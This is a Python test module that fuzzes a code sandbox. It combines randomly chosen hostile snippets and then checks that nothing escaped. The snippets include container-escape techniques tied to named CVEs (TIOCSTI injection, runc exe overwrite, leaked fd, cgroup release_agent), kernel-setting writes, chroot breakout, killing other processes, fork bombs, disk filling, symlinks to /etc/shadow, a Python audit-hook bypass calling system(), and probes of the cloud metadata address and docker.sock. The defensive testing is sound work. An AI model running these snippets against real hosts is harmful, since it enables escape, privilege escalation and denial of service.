"""Random hostile programs in the sandbox: nothing is written outside, nothing is sent, nothing is left running.

A program is put together from what is known to have broken bubblewrap, container run-times, kernels or Python's own
guards, in random order, some of it in threads and in processes that outlive their parent. Each step may fail; what
counts is what can be seen from outside afterwards.
"""

from __future__ import annotations

import asyncio
import os
import random
import secrets
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import asdict
from pathlib import Path
from typing import Any

from planfirst.core.runs import RunLimits
from tests.adapters import sandbox_outside as outside
from tests.adapters.hostile import FOLDERS

_LIMITS = RunLimits(wall=6.0, cpu=2.0, memory=128 << 20, processes=16, file=4 << 20, scratch=8 << 20)
_IPC = [Path("/proc/sysvipc") / name for name in ("shm", "msg", "sem")]
# Each is a step, by what it stands for; PORT is one that listens outside.
STEPS = {
    "characters pushed into the terminal (CVE-2017-5226)": """
import fcntl
for fd in (0, 1, 2): fcntl.ioctl(fd, 0x5412, b"x")
""",
    "the same by way of a new terminal": """
import fcntl, pty
parent, child = pty.openpty(); os.setsid(); fcntl.ioctl(child, 0x540E, 0); fcntl.ioctl(child, 0x5412, b"x")
""",
    "the run-time's own program (CVE-2019-5736)": """
for path in ("/proc/1/exe", "/proc/self/exe", sys.executable):
    open(path, "r+b").write(b"#!/bin/sh\\n")
""",
    "a directory that was left open (CVE-2024-21626)": """
for n in range(3, 30):
    try: os.chdir(f"/proc/self/fd/{n}")
    except OSError: continue
    open("../../../../../../tmp/" + MARK, "w").close()
""",
    "a release agent (CVE-2022-0492)": """
libc.unshare(0x12000000)
os.makedirs("/tmp/cg", exist_ok=True)
libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, b"rdma")
open("/tmp/cg/release_agent", "w").write("/tmp/x")
""",
    "settings of the kernel": """
for path in ("sys/kernel/core_pattern", "sysrq-trigger", "../sys/kernel/uevent_helper", "sys/kernel/modprobe"):
    try: open("/proc/" + path, "w").write("|/tmp/x")
    except OSError: pass
""",
    "namespaces of others": """
for name in os.listdir("/proc/1/ns"):
    fd = os.open("/proc/1/ns/" + name, os.O_RDONLY); libc.setns(fd, 0)
open("/tmp/" + MARK, "w").close()
""",
    "mounts in a namespace of its own": """
libc.unshare(0x10020000)
libc.mount(b"none", b"/", None, 0x44000, None)
libc.mount(b"/", b"/tmp", None, 0x1000, None)
libc.mount(b"proc", b"/tmp", b"proc", 0, None)
libc.umount2(b"/proc", 2)
""",
    "a root within the root": """
os.makedirs("/tmp/r", exist_ok=True); fd = os.open("/", os.O_RDONLY); os.chroot("/tmp/r"); os.fchdir(fd)
for _ in range(64): os.chdir("..")
os.chroot("."); open("/var/tmp/" + MARK, "w").close()
""",
    "files by their handles": """
handle = (ctypes.c_char * 32)(8, 0, 0, 0, 1, 0, 0, 0, 2)
fd = os.open("/", os.O_RDONLY); syscall(304, fd, handle, 0)
""",
    "processes of others": """
for pid in range(1, 300):
    if pid != os.getpid():
        libc.ptrace(16, pid, 0, 0)
        try: os.kill(pid, 9)
        except OSError: pass
try: os.kill(-1, 9)
except OSError: pass
""",
    "calls that few programs need": """
for number in (321, 298, 323, 425, 246, 175, 313, 167, 169, 164, 170, 171, 250, 248, 432, 428, 429, 442, 304):
    syscall(number, 0, 0, 0, 0)
libc.sethostname(MARK.encode(), len(MARK))
""",
    "devices": """
for path in ("mem", "kmsg", "tty", "ptmx", "fuse", "loop-control", "sda", "kvm"):
    try: open("/dev/" + path, "r+b", buffering=0).write(b"x")
    except OSError: pass
for n in (1, 5, 8):
    try: os.mknod(f"/tmp/d{n}", 0o60666, os.makedev(n, 0))
    except OSError: pass
""",
    "the network": """
for address in (("127.0.0.1", PORT), ("169.254.169.254", 80), ("192.0.2.1", 80)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET, kind) as s:
            s.settimeout(0.3)
            try: s.connect(address); s.send(MARK.encode())
            except OSError: pass
""",
    "sockets of other kinds": """
for family in (1, 16, 17, 38, 40, 44, 31):
    for kind in (1, 2, 3):
        try: s = socket.socket(family, kind)
        except OSError: continue
        for name in ("\\0/tmp/.X11-unix/X0", "\\0/tmp/dbus", "/run/dbus/system_bus_socket", "/run/docker.sock"):
            try: s.connect(name)
            except Exception: pass
""",
    "shared memory": """
for number in (29, 68, 64): libc.syscall(number, 4242, 4096 if number == 29 else 1, 0o1666)
import multiprocessing.shared_memory as m
m.SharedMemory(MARK, create=True, size=4096)
""",
    "a daemon": """
if os.fork() == 0:
    os.setsid(); signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN)
    libc.prctl(1, 0, 0, 0, 0); libc.prctl(36, 1, 0, 0, 0)
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
""",
    "a stopped process": """
if os.fork() == 0: os.kill(os.getpid(), signal.SIGSTOP)
""",
    "forks without end": """
while True:
    try: os.fork()
    except OSError: break
""",
    "threads without end": """
for _ in range(2000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
""",
    "memory without end": "kept = [bytearray(1 << 24) for _ in range(1000)]\n",
    "a disk that is filled": """
for n in range(1000):
    with open(f"/tmp/f{n}", "wb") as f: f.write(b"x" * (1 << 20))
""",
    "output without end": """
for _ in range(2000): os.write(1, b"\\x1b]0;x\\x07" * 10_000)
""",
    "links where results are": """
for path in ("/etc/passwd", "/proc/1/environ", "../../../../etc/shadow"):
    try: os.symlink(path, MARK[:4] + path.replace("/", "_"))
    except OSError: pass
os.mkfifo("pipe" + MARK)
""",
    "Python's own guards": """
sys.addaudithook(lambda *a: None)
for c in object.__subclasses__():
    if c.__name__ == "_wrap_close": c.__init__.__globals__["system"]("echo > /var/tmp/" + MARK)
""",
    "memory of the interpreter": """
ctypes.memset(id(None), 0, 16)
""",
    "code that is none": """
import types
f = (lambda: 0); exec(f.__code__.replace(co_code=bytes(range(2, 200, 2)) * 9, co_stacksize=1))
""",
    "priority": "os.nice(-20); os.sched_setaffinity(0, range(1024)); libc.setpriority(1, 0, -20)\n",
    "limits": "import resource; resource.setrlimit(resource.RLIMIT_AS, (-1, -1)); resource.setrlimit(6, (-1, -1))\n",
    "another user": "os.setuid(0); os.setgid(0); os.setgroups([0]); libc.capset(0, 0)\n",
    "places outside": """
for folder in FOLDERS:
    for before in ("", "/proc/1/root", "/proc/self/root/..", "/proc/self/cwd/../.."):
        try: open(before + folder + "/" + MARK, "x").close()
        except OSError: pass
""",
}


async def run(count: int, seed: int, folder: Path) -> dict[str, Any]:
    """So many programs; says how many were ended by a limit, and what was found."""
    if reason := await asyncio.to_thread(outside.why_not_here):
        return {"programs": 0, "limited": 0, "found": [reason]}
    rng = random.Random(seed)
    limited = 0
    found: list[str] = []
    bystander = subprocess.Popen(["/bin/sleep", "100000"])
    before = _outside()
    with _listening() as (port, heard):
        try:
            for n in range(count):
                mark = f"hostile{secrets.token_hex(4)}"
                program, steps = _program(rng, port)
                order = {
                    "user": "ourselves",
                    "program": outside.PREAMBLE.format(mark=mark) + program,
                    "files": {},
                    "limits": asdict(_LIMITS),
                    "stdin": "",
                }
                done = await asyncio.to_thread(outside.here, order)
                limited += bool(outside.to_result(done).limit)
                wrong = [f"{left} still runs" for left in outside.marked(mark)]
                wrong += [str(path) for place in FOLDERS for path in Path(place).glob(f"*{mark}*")]
                wrong += ["a bystander was killed"] if bystander.poll() is not None else []
                wrong += ["it reached the network"] if heard() else []
                wrong += ["it changed what all processes share"] if _outside() != before else []
                found += [f"{seed}:{n}: {what}, by {steps}" for what in wrong]
        finally:
            bystander.kill()
            bystander.wait()
    return {"programs": count, "limited": limited, "found": found[:20]}


def _program(rng: random.Random, port: int) -> tuple[str, list[str]]:
    steps = rng.sample(list(STEPS), rng.randint(2, 6))
    parts = [f"PORT, FOLDERS = {port}, {FOLDERS!r}\n"]
    for n, step in enumerate(steps):
        body = "\n".join(f"    {line}" for line in STEPS[step].strip().split("\n"))
        name = f"step{n}"
        parts.append(f"def {name}():\n{body}\n")
        match rng.randrange(4):
            case 0:
                parts.append(f"threading.Thread(target={name}, daemon=True).start()\n")
            case 1:
                parts.append(f"try:\n    if os.fork() == 0: {name}()\nexcept BaseException: pass\n")
            case _:
                parts.append(f"try: {name}()\nexcept BaseException: pass\n")
    return "\n".join(parts), steps


def _outside() -> list[str]:
    """What all processes of this machine share: its name, and the keys and numbers of what is kept for them.

    Shared memory whose maker still runs is another program's, since no process of ours is left by now.
    """
    lines = [(path, line.split()) for path in _IPC if path.exists() for line in path.read_text().splitlines()[1:]]
    kept = [row[:2] for path, row in lines if path.name != "shm" or not Path("/proc", row[4]).exists()]
    return [os.uname().nodename, *map(" ".join, kept)]


@contextmanager
def _listening() -> Iterator[tuple[int, Any]]:
    """A port, and whether anybody has connected to it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)

        def heard() -> bool:
            try:
                server.accept()[0].close()
            except BlockingIOError:
                return False
            return True

        yield server.getsockname()[1], heard
